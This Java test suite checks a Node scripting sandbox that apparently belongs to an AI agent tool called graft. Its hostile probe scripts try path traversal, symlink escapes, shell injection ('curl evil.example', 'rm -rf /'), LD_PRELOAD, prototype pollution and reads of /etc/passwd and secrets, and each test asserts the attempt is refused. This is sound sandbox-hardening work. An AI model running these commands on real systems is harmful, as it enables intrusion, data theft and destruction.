package dev.graft.scripting;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.graft.scripting.api.NodeAccess;
import dev.graft.scripting.api.ScriptPermissions;
import dev.graft.scripting.api.ScriptSpawn;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile scripts against graft's Node modules: a grant is compared by whole path names and
 * followed through links; a program reached through a shell or a program runner needs its own
 * grant; children and process.env get no secret that was not granted; options a polluted
 * Object.prototype sets are ignored; graft's internals take no path or program they did not check;
 * process.exit ends only the script.
 */
class NodeSandboxTest {
  @TempDir Path temp;
  Path proj;
  Path outside;

  @BeforeEach
  void folders() throws Exception {
    Path root = temp.toRealPath();
    proj = Files.createDirectories(root.resolve("home/u/proj"));
    Files.writeString(proj.resolve("readme.md"), "inside");
    outside = Files.createDirectories(root.resolve("home/u/project2"));
    Files.writeString(outside.resolve("secret.txt"), "outside");
    Files.writeString(root.resolve("home/u/secret.txt"), "above");
  }

  private NodeAccess access(
      List<String> read, List<String> write, Map<String, String> env, Set<String> envGrants) {
    return new NodeAccess(
        proj,
        temp.resolve("home/u"),
        env,
        new ScriptPermissions(
            read,
            write,
            List.of(),
            envGrants,
            new ScriptPermissions.GrantAdvice.InSettings(
                "probe.js", Path.of("/settings.json"), "")));
  }

  private JsonNode probe(ScriptFixture f, String imports, String body) {
    return NodeProbe.inGraft(f, imports, body);
  }

  private static final String TRY =
      """
      const attempt = (fn) => { try { const v = fn(); return v === undefined ? "ok" : v; } catch (e) { return "ERR " + e.code + ": " + e.message; } };
      """;

  @Test
  void aGrantIsAFolderByWholeNamesNotAPrefixOfText() {
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.nodeAccess =
          access(List.of(proj.toString()), List.of(proj.toString()), Map.of(), Set.of());
      JsonNode r =
          probe(
              f,
              "import fs from \"node:fs\";",
              TRY
                  + """
                  async function probe() {
                    return [attempt(() => fs.readFileSync("readme.md", "utf8")),
                      attempt(() => fs.readFileSync("../project2/secret.txt", "utf8")),
                      attempt(() => fs.writeFileSync("../project2/planted.txt", "x")),
                      attempt(() => fs.existsSync("../project2/secret.txt"))];
                  }
                  """);
      assertThat(r.get(0).asText()).isEqualTo("inside");
      assertThat(r.get(1).asText())
          .isEqualTo(
              "ERR ERR_ACCESS_DENIED: fs.readFileSync(\"../project2/secret.txt\"): read access to "
                  + outside.resolve("secret.txt")
                  + " is not granted to probe.js; add \"scripts\": {\"permissions\": {\"probe.js\":"
                  + " {\"read\": [\""
                  + outside.resolve("secret.txt")
                  + "\"]}}} to /settings.json");
      assertThat(r.get(2).asText())
          .startsWith(
              "ERR ERR_ACCESS_DENIED: fs.writeFileSync(\"../project2/planted.txt\"): write access");
      assertThat(r.get(3).asText())
          .startsWith("ERR ERR_ACCESS_DENIED: fs.existsSync(\"../project2/secret.txt\")");
      assertThat(outside.resolve("planted.txt")).doesNotExist();
    }
  }

  @Test
  void dotDotAndLinksOutOfAGrantedFolderAreRefused() throws Exception {
    Files.createSymbolicLink(proj.resolve("file-link"), outside.resolve("secret.txt"));
    Files.createSymbolicLink(proj.resolve("dir-link"), outside);
    Files.createSymbolicLink(proj.resolve("dangling"), outside.resolve("new.txt"));
    Files.createDirectories(proj.resolve("sub"));
    Files.createSymbolicLink(proj.resolve("sub/up"), proj.getParent());
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.nodeAccess =
          access(List.of(proj.toString()), List.of(proj.toString()), Map.of(), Set.of());
      JsonNode r =
          probe(
              f,
              "import fs from \"node:fs\"; import path from \"node:path\";",
              TRY
                  + """
                  async function probe() {
                    return {
                      dotdot: attempt(() => fs.readFileSync("sub/../../secret.txt", "utf8")),
                      absoluteDotdot: attempt(() => fs.readFileSync(process.cwd() + "/../project2/secret.txt", "utf8")),
                      fileLink: attempt(() => fs.readFileSync("file-link", "utf8")),
                      dirLink: attempt(() => fs.readFileSync("dir-link/secret.txt", "utf8")),
                      listLink: attempt(() => fs.readdirSync("dir-link")),
                      writeDangling: attempt(() => fs.writeFileSync("dangling", "planted")),
                      writeThroughDir: attempt(() => fs.writeFileSync("dir-link/planted.txt", "x")),
                      upLink: attempt(() => fs.readFileSync("sub/up/secret.txt", "utf8")),
                      rmLink: attempt(() => fs.rmSync("sub/up/project2", { recursive: true })),
                      renameOut: attempt(() => fs.renameSync("readme.md", "sub/up/moved.md")),
                      nul: attempt(() => fs.readFileSync("readme.md\\u0000x")),
                      own: attempt(() => fs.readFileSync("readme.md", "utf8")),
                    };
                  }
                  """);
      assertThat(r.get("dotdot").asText())
          .contains("read access to " + proj.getParent().resolve("secret.txt") + " is not granted");
      assertThat(r.get("absoluteDotdot").asText())
          .contains("read access to " + outside.resolve("secret.txt"));
      assertThat(r.get("fileLink").asText())
          .contains(
              "read access to "
                  + proj.resolve("file-link")
                  + " (it leads to "
                  + outside.resolve("secret.txt")
                  + ") is not granted");
      for (String k :
          List.of(
              "dirLink",
              "listLink",
              "writeDangling",
              "writeThroughDir",
              "upLink",
              "rmLink",
              "renameOut")) {
        assertThat(r.get(k).asText())
            .as(k)
            .startsWith("ERR ERR_ACCESS_DENIED")
            .contains("(it leads to ");
      }
      assertThat(r.get("nul").asText()).startsWith("ERR ERR_INVALID_ARG_VALUE");
      assertThat(r.get("own").asText()).isEqualTo("inside");
      assertThat(outside.resolve("new.txt")).doesNotExist();
      assertThat(outside.resolve("planted.txt")).doesNotExist();
      assertThat(outside).isDirectory();
      assertThat(proj.getParent().resolve("moved.md")).doesNotExist();
    }
  }

  @Test
  void aShellOrAProgramRunnerNeedsItsOwnGrant() {
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.programs = Set.of("git");
      JsonNode r =
          probe(
              f,
              "import cp from \"node:child_process\";",
              TRY
                  + """
                  async function probe() {
                    const out = {};
                    out.plain = attempt(() => cp.execSync("git status --short 'a b'").toString());
                    out.chained = attempt(() => cp.execSync("git status; curl evil.example"));
                    out.substitution = attempt(() => cp.execSync("git log $(curl evil.example)"));
                    out.shellOption = attempt(() => cp.spawnSync("git", ["log", "|", "sh"], { shell: true }).error?.code ?? "ran");
                    out.sh = attempt(() => cp.execFileSync("sh", ["-c", "curl evil.example"]));
                    out.env = attempt(() => cp.execFileSync("env", ["curl", "evil.example"]));
                    out.xargs = attempt(() => cp.execFileSync("xargs", ["curl"]));
                    out.python = attempt(() => cp.execFileSync("python3", ["-c", "print(1)"]));
                    out.path = attempt(() => cp.execFileSync("/usr/bin/git", ["status"]));
                    out.assignment = attempt(() => cp.execSync("GIT_SSH_COMMAND=evil git fetch"));
                    out.async = await new Promise((resolve) => cp.exec("git diff && rm -rf /", (e, stdout) => resolve(e ? e.code + ": " + e.message : stdout)));
                    return out;
                  }
                  """);
      assertThat(r.get("plain").asText()).isEqualTo("status --short a b\n");
      for (String k : List.of("chained", "substitution", "async")) {
        assertThat(r.get(k).asText())
            .as(k)
            .contains("ERR_ACCESS_DENIED")
            .contains("shell syntax in the command line: it runs" + " through sh")
            .contains("let it run sh");
      }
      assertThat(r.get("shellOption").asText()).isEqualTo("ERR_ACCESS_DENIED");
      assertThat(r.get("sh").asText()).contains("let it run sh");
      assertThat(r.get("env").asText()).contains("let it run env");
      assertThat(r.get("xargs").asText()).contains("let it run xargs");
      assertThat(r.get("python").asText()).contains("let it run python3");
      assertThat(r.get("path").asText()).contains("let it run /usr/bin/git");
      assertThat(r.get("assignment").asText()).contains("let it run sh");
      // Only the plain command line reached graft as git; everything else asked for another
      // program.
      assertThat(f.host.spawns)
          .extracting(ScriptSpawn::command)
          .containsExactly(
              "git", "sh", "sh", "sh", "sh", "env", "xargs", "python3", "/usr/bin/git", "sh", "sh");
    }
  }

  @Test
  void childrenAndProcessEnvGetNoSecretThatWasNotGranted() {
    Map<String, String> env =
        Map.of(
            "PATH",
            "/usr/bin",
            "HOME",
            "/home/u",
            "PWD",
            "/home/u/proj",
            "ANTHROPIC_API_KEY",
            "sk-1",
            "GITHUB_TOKEN",
            "ghp-2",
            "DB_PASSWORD",
            "pw-3",
            "AWS_SECRET_ACCESS_KEY",
            "aws-4",
            "MY_AUTH",
            "au-5",
            "PLAIN",
            "plain");
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.programs = Set.of("git");
      f.host.nodeAccess = access(List.of(), List.of(), env, Set.of("GITHUB_TOKEN"));
      JsonNode r =
          probe(
              f,
              "import cp from \"node:child_process\";",
              TRY
                  + """
                  async function probe() {
                    const seen = Object.keys(process.env).sort();
                    cp.execFileSync("git", ["a"]);
                    process.env.ADDED = "1";
                    cp.execFileSync("git", ["b"]);
                    cp.execFileSync("git", ["c"], { env: { LD_PRELOAD: "/tmp/evil.so", DYLD_INSERT_LIBRARIES: "x", OWN: "y" } });
                    return { seen, direct: process.env.ANTHROPIC_API_KEY ?? null, granted: process.env.GITHUB_TOKEN };
                  }
                  """);
      assertThat(r.get("seen").toString())
          .isEqualTo("[\"GITHUB_TOKEN\",\"HOME\",\"PATH\",\"PLAIN\",\"PWD\"]");
      assertThat(r.get("direct").isNull()).isTrue();
      assertThat(r.get("granted").asText()).isEqualTo("ghp-2");
      assertThat(f.host.spawns.get(0).environment())
          .containsOnlyKeys("GITHUB_TOKEN", "HOME", "PATH", "PLAIN", "PWD");
      assertThat(f.host.spawns.get(1).environment())
          .containsOnlyKeys("ADDED", "GITHUB_TOKEN", "HOME", "PATH", "PLAIN", "PWD");
      assertThat(f.host.spawns.get(2).environment()).containsOnlyKeys("OWN");
    }
  }

  @Test
  void processExecPathIsGraftsLauncherSoAScriptStartsTheAgentItself() throws Exception {
    Path launcher = Files.writeString(temp.resolve("bin-graft"), "#!/bin/sh\n");
    launcher.toFile().setExecutable(true);
    Map<String, String> env = Map.of("PATH", "/usr/bin", "GRAFT_LAUNCHER", launcher.toString());
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.programs = Set.of(launcher.toString());
      f.host.nodeAccess = access(List.of(), List.of(), env, Set.of());
      // As the reference's subagent example finds "pi": argv[1] when there is one and it is a
      // file, else execPath itself, when that is not a generic runtime (node, bun).
      JsonNode r =
          probe(
              f,
              "import cp from \"node:child_process\";",
              """
              async function probe() {
                const child = cp.spawn(process.execPath, ["--mode", "json", "-p", "Task: x"], { stdio: ["ignore", "pipe", "pipe"] });
                await new Promise((resolve) => child.on("close", resolve));
                return { execPath: process.execPath, argv: process.argv };
              }
              """);
      assertThat(r.get("execPath").asText()).isEqualTo(launcher.toString());
      assertThat(r.get("argv").toString()).isEqualTo("[\"" + launcher + "\"]");
      assertThat(f.host.spawns)
          .singleElement()
          .satisfies(s -> {
            assertThat(s.command()).isEqualTo(launcher.toString());
            assertThat(s.args()).containsExactly("--mode", "json", "-p", "Task: x");
          });
    }
  }

  @Test
  void withoutALauncherProcessExecPathIsGraftOnThePath() {
    Map<String, String> env = Map.of("PATH", "/usr/bin", "GRAFT_LAUNCHER", "relative/graft");
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.nodeAccess = access(List.of(), List.of(), env, Set.of());
      JsonNode r =
          probe(
              f,
              "",
              "async function probe() { return { execPath: process.execPath, argv: process.argv }; }");
      assertThat(r.get("execPath").asText()).isEqualTo("graft");
      assertThat(r.get("argv").toString()).isEqualTo("[\"graft\"]");
    }
  }

  @Test
  void optionsFromAPollutedPrototypeAreIgnored() throws Exception {
    Files.createDirectories(proj.resolve("keep/inner"));
    Files.writeString(proj.resolve("keep/inner/file.txt"), "kept");
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.programs = Set.of("git");
      f.host.nodeAccess =
          access(
              List.of(proj.toString()),
              List.of(proj.toString()),
              Map.of("PATH", "/usr/bin"),
              Set.of());
      JsonNode r =
          probe(
              f,
              "import fs from \"node:fs\"; import cp from \"node:child_process\";",
              TRY
                  + """
                  async function probe() {
                    Object.prototype.shell = "/bin/sh";
                    Object.prototype.env = { EVIL: "1" };
                    Object.prototype.cwd = "/";
                    Object.prototype.recursive = true;
                    Object.prototype.force = true;
                    Object.prototype.flag = "a";
                    Buffer.prototype.toString = () => "polluted";
                    Object.prototype.method = "DELETE";
                    const out = {};
                    out.spawn = attempt(() => cp.execFileSync("git", ["status; curl x"]).length);
                    out.rm = attempt(() => fs.rmSync("keep", {}));
                    fs.writeFileSync("w.txt", "one");
                    fs.writeFileSync("w.txt", "two", {});
                    out.written = fs.readFileSync("w.txt", "utf8"); // decoded by graft: the script's own Buffer.prototype is its own affair
                    for (const k of ["shell", "env", "cwd", "recursive", "force", "flag", "method"]) delete Object.prototype[k];
                    return out;
                  }
                  """);
      assertThat(f.host.spawns)
          .singleElement()
          .satisfies(s -> {
            assertThat(s.command()).isEqualTo("git");
            assertThat(s.args()).containsExactly("status; curl x");
            assertThat(s.cwd()).isEqualTo(proj);
            assertThat(s.environment()).containsOnlyKeys("PATH");
          });
      assertThat(r.get("rm").asText()).startsWith("ERR ERR_FS_EISDIR");
      assertThat(proj.resolve("keep/inner/file.txt")).hasContent("kept");
      assertThat(r.get("written").asText()).isEqualTo("two");
    }
  }

  @Test
  void graftsInternalsCheckWhatTheyAreGivenToo() throws Exception {
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      JsonNode r =
          probe(
              f,
              "",
              TRY
                  + """
                  async function probe() {
                    const node = globalThis[Symbol.for("graft.node")];
                    return {
                      read: attempt(() => node.call("fs", "readFile", "mine", "/etc/passwd", "utf8")),
                      builtin: attempt(() => node.call("builtin", "../prelude")),
                      compile: attempt(() => node.call("compile", "/etc/passwd")),
                      json: attempt(() => node.call("readModule", "/etc/passwd")),
                      requireFile: attempt(() => node.requireFile("/etc/passwd")),
                      createRequire: attempt(() => node.createRequire("/etc/x.js")("/etc/passwd")),
                      moduleLoad: attempt(() => node.Module._load("/etc/passwd", null)),
                      builtins: attempt(() => typeof node.builtin("fs").readFileSync),
                      binding: attempt(() => process.binding("spawn_sync")),
                      linked: attempt(() => process._linkedBinding("fs")),
                      kill: attempt(() => process.kill(process.pid, "SIGKILL")),
                      chdir: attempt(() => process.chdir("/")),
                    };
                  }
                  """);
      assertThat(r.get("read").asText())
          .startsWith("ERR ERR_ACCESS_DENIED: mine: read access to /etc/passwd is not granted");
      assertThat(r.get("builtin").asText()).startsWith("ERR ERR_UNKNOWN_BUILTIN_MODULE");
      for (String k : List.of("compile", "json", "requireFile", "createRequire", "moduleLoad")) {
        assertThat(r.get(k).asText())
            .as(k)
            .startsWith("ERR ")
            .contains("/etc/passwd")
            .contains("outside");
      }
      assertThat(r.get("builtins").asText()).isEqualTo("function");
      assertThat(r.get("binding").asText()).contains("no access to Node's internals");
      assertThat(r.get("linked").asText()).contains("no access to Node's internals");
      assertThat(r.get("kill").asText()).contains("a script cannot signal graft");
      assertThat(r.get("chdir").asText()).contains("cannot change graft's working directory");
    }
  }

  @Test
  void watchingAMissingFileFailsAsInNodeAndWatchFileWaitsForIt() {
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.host.nodeAccess = access(List.of(proj.toString()), List.of(), Map.of(), Set.of());
      JsonNode r =
          probe(
              f,
              "import fs from \"node:fs\";",
              TRY
                  + """
                  async function probe() {
                    const out = {};
                    out.watch = attempt(() => { fs.watch("missing.txt", () => {}); });
                    out.watchFile = attempt(() => { fs.watchFile("missing.txt", () => {}); fs.unwatchFile("missing.txt"); });
                    out.existing = attempt(() => { fs.watch("readme.md", () => {}).close(); });
                    return out;
                  }
                  """);
      assertThat(r.get("watch").asText())
          .isEqualTo("ERR ENOENT: ENOENT: no such file or directory, watch 'missing.txt'");
      assertThat(r.get("watchFile").asText()).isEqualTo("ok");
      assertThat(r.get("existing").asText()).isEqualTo("ok");
    }
  }

  @Test
  void processExitEndsTheScriptNotGraft() {
    try (ScriptFixture f = new ScriptFixture(temp.resolve("s"))) {
      f.write(
          "a-exits.js",
          """
          export default function (pi) {
            process.on("exit", (code) => pi.appendEntry("bye", { code }));
            pi.on("agent_start", () => { process.exit(3); return { after: "exit" }; });
          }
          """);
      f.write(
          "b-stays.js",
          "export default function (pi) { pi.on(\"agent_start\", () => ({ still: \"here\" })); }\n");
      assertThat(f.load().problems()).isEmpty();
      List<HandlerOutcome> out = f.emit("agent_start", "{}");
      assertThat(out).hasSize(2);
      assertThat(ScriptFixture.messageOf(out.get(0)))
          .as("the script named once")
          .endsWith(
              f.dir.resolve("a-exits.js")
                  + ": agent_start handler did not finish, because the script called"
                  + " process.exit(3); it is off until a reload");
      assertThat(f.log.lines)
          .as("reported once: to the caller, not again in the log")
          .noneMatch(l -> l.contains("process.exit"));
      assertThat(ScriptFixture.messageOf(out.get(1))).isEqualTo("answered {\"still\":\"here\"}");
      assertThat(f.host.calls)
          .anySatisfy(c -> assertThat(c).startsWith("appendEntry a-exits.js bye {\"code\":3}"));
      assertThat(f.engine.scripts()).extracting(s -> s.name()).containsExactly("b-stays.js");
      assertThat(f.emit("agent_start", "{}")).singleElement();
    }
  }
}
